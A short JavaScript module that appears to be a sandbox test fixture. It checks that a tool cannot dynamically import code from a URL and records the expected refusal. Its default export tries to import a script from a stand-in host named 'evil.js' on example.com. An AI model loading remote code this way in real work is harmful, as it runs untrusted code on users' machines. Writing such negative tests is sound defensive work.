export const attempt = {
  tries: "to import code from a URL",
  blockedBecause: "a tool is one file of code and cannot import files of this machine",
  refused: "not allowed",
};

export default async () => ({ was: (await import("https://example.com/evil.js")).default });
